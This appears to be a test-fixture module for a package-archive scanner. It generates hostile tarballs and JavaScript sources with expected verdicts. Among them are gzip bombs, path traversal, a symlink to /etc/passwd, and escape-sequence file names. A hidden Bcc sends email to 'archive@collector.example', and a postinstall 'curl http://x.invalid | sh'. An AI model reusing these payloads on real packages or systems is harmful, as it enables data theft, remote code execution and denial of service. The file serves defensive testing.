// Every hostile input we know how to make, each with what must come of it.
//
// `status` lists the exit statuses that are right, `says` what the JSON report or the error must hold. A case ends in a finding
// (1), in a sentence about what could not be looked at (4), or, where the input is only ugly, in a plain verdict (0).
import { END, bomb, entry, gzip, manyFiles, pack, pax, tar } from './archive.mjs';

const MANIFEST = '{"name":"hostile","version":"1.0.0","main":"index.js"}';
const manifest = entry({ name: 'package/package.json', data: MANIFEST });
const index = entry({ name: 'package/index.js', data: 'module.exports = 1;\n' });
const bcc = 'module.exports = (client, to, text) => client.sendEmail({ To: to, TextBody: text, Bcc: "archive@collector.example" });\n';
const js = (source, name = 'index.js') => () => pack({ 'package.json': MANIFEST.replace('index.js', name), [name]: source });
const N = 100_000;

export const archives = {
  'gzip-bomb': { make: () => bomb(entry({ name: 'package/z.js', size: 4 * 2 ** 30 }), 256), status: [1, 4], says: /more than|large/ },
  'gzip-bomb-many-files': { make: () => bomb(tar([manifest, index], Buffer.alloc(0)), 256), status: [0, 1, 4] },
  'gzip-lying-size': { make: () => { const b = Buffer.from(pack({ 'package.json': MANIFEST, 'index.js': bcc })); b.writeUInt32LE(0xffffffff, b.length - 4); return b; }, status: [1, 4] },
  'gzip-bad-checksum': { make: () => { const b = Buffer.from(pack({ 'package.json': MANIFEST })); b[b.length - 8] ^= 0xff; return b; }, status: [1, 4] },
  'two-gzip-members': {
    make: () => { const t = tar([manifest, index, entry({ name: 'package/evil.js', data: bcc })]); const at = t.length - 2048 - 512; return Buffer.concat([gzip(t.subarray(0, at)), gzip(t.subarray(at))]); },
    status: [0, 1], says: /multi|member/i,
  },
  'archive-behind-the-archive': { make: () => gzip(Buffer.concat([tar([manifest, index]), tar([entry({ name: 'package/evil.js', data: bcc })])])), status: [0, 1] },
  'trailing-garbage': { make: () => Buffer.concat([gzip(tar([manifest, index])), Buffer.from('garbage behind the archive')]), status: [0, 1] },
  'truncated-gzip': { make: () => { const b = pack({ 'package.json': MANIFEST, 'index.js': bcc.repeat(50) }); return b.subarray(0, b.length / 2); }, status: [1, 4] },
  'truncated-tar': { make: () => gzip(tar([manifest, entry({ name: 'package/a.js', data: bcc.repeat(50) })]).subarray(0, 1536)), status: [0, 1, 4] },
  'empty-file': { make: () => Buffer.alloc(0), status: [1, 4] },
  'not-an-archive': { make: () => Buffer.from('<html>not found</html>'), status: [1, 4] },
  'only-end-blocks': { make: () => gzip(END), status: [1, 4] },
  'million-files': {
    make: () => gzip(Buffer.concat([manifest, manyFiles(1_000_000), END]), 1),
    status: [1, 4], says: /files|large/i,
  },
  'path-traversal': { make: () => gzip(tar([manifest, index, entry({ name: 'package/../../../up.js', data: bcc })])), status: [0, 1], says: /up\.js/ },
  'absolute-path': { make: () => gzip(tar([manifest, index, entry({ name: '/abs/p.js', data: 'p()' })])), status: [0, 1] },
  'symbolic-link': { make: () => gzip(tar([manifest, index, entry({ name: 'package/passwd', type: '2', link: '/etc/passwd' })])), status: [0, 1], says: /link/i },
  'hard-link': { make: () => gzip(tar([manifest, index, entry({ name: 'package/copy.js', type: '1', link: 'package/index.js' })])), status: [0, 1], says: /link/i },
  'duplicate-entry': { make: () => gzip(tar([manifest, index, entry({ name: 'package/index.js', data: bcc })])), status: [1], says: /archive@collector\.example/ },
  'case-collision': { make: () => gzip(tar([manifest, index, entry({ name: 'package/INDEX.js', data: bcc })])), status: [0, 1] },
  'pax-path': { make: () => gzip(tar([manifest, index, pax({ path: 'package/index.js' }), entry({ name: 'package/readme', data: bcc })])), status: [1], says: /archive@collector\.example/ },
  'pax-size': { make: () => gzip(tar([manifest, index, pax({ size: '2' }), entry({ name: 'package/a.js', data: '1;', size: 9_999_999 })])), status: [0, 1, 4] },
  'pax-global': { make: () => gzip(tar([pax({ path: 'package/all.js' }, 'g'), manifest, index])), status: [0, 1, 4] },
  'pax-huge': { make: () => gzip(tar([manifest, pax({ comment: 'x'.repeat(20 << 20) }), index])), status: [0, 1, 4] },
  'gnu-long-name': { make: () => gzip(tar([manifest, entry({ name: '././@LongLink', type: 'L', data: `package/${'d/'.repeat(20_000)}x.js\0` }), entry({ name: 'short', data: '1' }), index])), status: [0, 1, 4] },
  'negative-size': { make: () => gzip(tar([manifest, entry({ name: 'package/a.js', size: Buffer.alloc(12, 0xff) }), index])), status: [0, 1, 4] },
  'huge-size': { make: () => gzip(tar([manifest, entry({ name: 'package/a.js', size: Buffer.from([0x80, 0, 0, 0, 0x7f, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff]) }), index])), status: [0, 1, 4] },
  'bad-header-checksum': { make: () => gzip(tar([manifest, entry({ name: 'package/a.js', data: bcc, badChecksum: true }), index])), status: [0, 1, 4] },
  'devices-and-fifos': { make: () => gzip(tar([manifest, index, ...['3', '4', '6', '7', 'V', 'S', 'Z'].map((type) => entry({ name: `package/special-${type}`, type }))])), status: [0, 1, 4] },
  'hostile-names': { make: () => gzip(tar([manifest, index, entry({ name: 'package/\u001b]0;owned\u0007\u001b[2J\u202egnp.js', data: bcc }), entry({ name: 'package/a\nb\rc.js', data: '1' })])), status: [0, 1] },
  'not-gzipped': { make: () => tar([manifest, entry({ name: 'package/index.js', data: bcc })]), status: [1], says: /archive@collector\.example/ },
  'manifest-missing': { make: () => gzip(tar([index])), status: [0, 1, 4] },
  'manifest-wrong-types': { make: () => pack({ 'package.json': '{"name":7,"version":[],"main":{},"bin":9,"exports":[[[null]]],"scripts":{"install":5},"dependencies":"x","files":{},"imports":3,"engines":[]}', 'index.js': bcc }), status: [0, 1, 4] },
  'manifest-deep': { make: () => pack({ 'package.json': '{"name":"h","version":"1.0.0","exports":' + '{"."'.repeat(N).replaceAll('"."', '".":') + '1' + '}'.repeat(N) + '}', 'index.js': '1' }), status: [0, 1, 4] },
  'manifest-giant-field': { make: () => pack({ 'package.json': `{"name":"h","version":"1.0.0","description":"${'x'.repeat(30 << 20)}"}`, 'index.js': '1' }), status: [0, 1, 4] },
  'manifest-escapes': { make: () => pack({ 'package.json': '{"name":"h","version":"1.0.0","scripts":{"postinstall":"\\u001b[2J\\u001b]0;x\\u0007 curl http://x.invalid | sh"}}', 'index.js': '1' }), status: [1] },
  'manifest-bom-and-nul': { make: () => pack({ 'package.json': '\ufeff' + MANIFEST + '\0', 'index.js': '1' }), status: [0, 1, 4] },
};

export const sources = {
  'paren.js': js('('.repeat(N) + '1' + ')'.repeat(N)),
  'arr.js': js('['.repeat(N) + ']'.repeat(N)),
  'arr1m.js': js('['.repeat(1_000_000)),
  'block.js': js('{'.repeat(N) + '}'.repeat(N)),
  'bin.js': js('x=' + Array(200_000).fill("'a'").join('+')),
  'binright.js': js('x=' + Array(N).fill('2').join('**')),
  'call.js': js('f' + '()'.repeat(200_000)),
  'member.js': js('a' + '.b'.repeat(300_000)),
  'fn.js': js('function f(){'.repeat(20_000) + '}'.repeat(20_000)),
  'arrow.js': js('x=>'.repeat(50_000) + '1'),
  'parrow.js': js('(a=('.repeat(40) + '1' + ')=>1)'.repeat(40)),
  'unary.js': js('x=' + '!'.repeat(300_000) + '1'),
  'elseif.js': js('if(a){}else '.repeat(50_000) + '{}'),
  'template.js': js('x=' + '`${'.repeat(20_000) + '1' + '}`'.repeat(20_000)),
  'comma.js': js('x=(' + '1,'.repeat(1_000_000) + '1)'),
  'conditional.js': js('x=' + 'a?'.repeat(30_000) + '1' + ':2'.repeat(30_000)),
  'conditional-right.js': js('x=' + 'a?b:'.repeat(50_000) + '1'),
  'less-than.ts': js('x=' + 'a<'.repeat(3000) + 'b', 'index.ts'),
  'arrow.ts': js('x=' + '(a?('.repeat(24) + 'b' + ')=>c:d)'.repeat(24), 'index.ts'),
  'optional-chain.js': js('x=a' + '?.b'.repeat(N)),
  'new.js': js('new '.repeat(N) + 'X'),
  'class.js': js('class A{m(){'.repeat(20_000) + '}}'.repeat(20_000)),
  'label.js': js('a:'.repeat(N) + '1'),
  'await.js': js('async function f(){' + 'await '.repeat(N) + '1}'),
  'spread.js': js('x=' + '[...'.repeat(20_000) + '1' + ']'.repeat(20_000)),
  'object-thousand.js': { make: js('module.exports=' + '{a:'.repeat(1000) + '1' + '}'.repeat(1000)), status: [0] },
  'one-string-100mb.js': js(`x="${'a'.repeat(100_000_000)}"`),
  'one-line-100mb.js': js('x=[' + Array(9_000_000).fill('"12345678"').join(',') + ']'),
  'invalid-utf8.js': { make: () => pack({ 'package.json': MANIFEST, 'index.js': Buffer.concat([Buffer.from([0xff, 0xfe, 0xc0, 0x80, 0x0a]), Buffer.from(`var a="\xff";${bcc}`, 'latin1')]) }), status: [0, 1] },
  'nul-bytes.js': js('\0'.repeat(1_000_000)),
  'repeat-bomb.js': js("x='a'.repeat(1e9).repeat(1e9);eval(x);m={to:t,bcc:'a'.repeat(2**30)}"),
  'doubling.js': js('var a0="ab";' + Array.from({ length: 64 }, (_, i) => `var a${i + 1}=a${i}+a${i};`).join('') + 'send({to:t,bcc:a64})'),
  'endless-loop.js': js('function d(s){while(true){s+="x"}return s}send({to:t,bcc:d("y")});for(;;);'),
  'fill-bomb.js': js('send({to:t,bcc:Array(1e9).fill("a").join("")+new Array(4294967295).join("b")})'),
  'mutual-symbols.js': js(Array.from({ length: 2000 }, (_, i) => `let v${i}=v${(i + 1) % 2000}+v${(i * 7) % 2000};`).join('') + 'send({to:t,bcc:v0})'),
  'call-fan-out.js': js('const f0=x=>x;' + Array.from({ length: 60 }, (_, i) => `const f${i + 1}=x=>f${i}(x)+f${i}(x);`).join('') + 'send({to:t,bcc:f60("a")})'),
  'slow-regex.js': js('send({to:t,bcc:("a".repeat(40)+"!").replace(/(a+)+$/,"b")})'),
  'many-assignments.js': js('let m={to:t};' + Array.from({ length: 50_000 }, (_, i) => `m.k${i}=m;m.bcc=u${i};`).join('') + 'send(m)'),
  'many-functions.js': js(Array.from({ length: 50_000 }, (_, i) => `function g${i}(a){return g${(i + 1) % 50_000}(a)}`).join('\n')),
  'destructuring.js': js('var ' + '[{a:'.repeat(2000) + 'b' + '}]'.repeat(2000) + '=c'),
  'string-array.js': js(`const w=${JSON.stringify(Array.from({ length: 50_000 }, (_, i) => `w${i}`))};(function(a,n){while(--n){a.push(a.shift())}})(w,0xffffff);send({to:t,bcc:w[3]})`),
  'many-recipients.js': { make: js('send({to:t,bcc:[' + Array.from({ length: 50_000 }, (_, i) => `"a${i}@collector.example"`).join(',') + ']})'), status: [0, 1] },
  'bidi.js': { make: js(`/*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin*/ ${bcc}`), status: [1] },
};
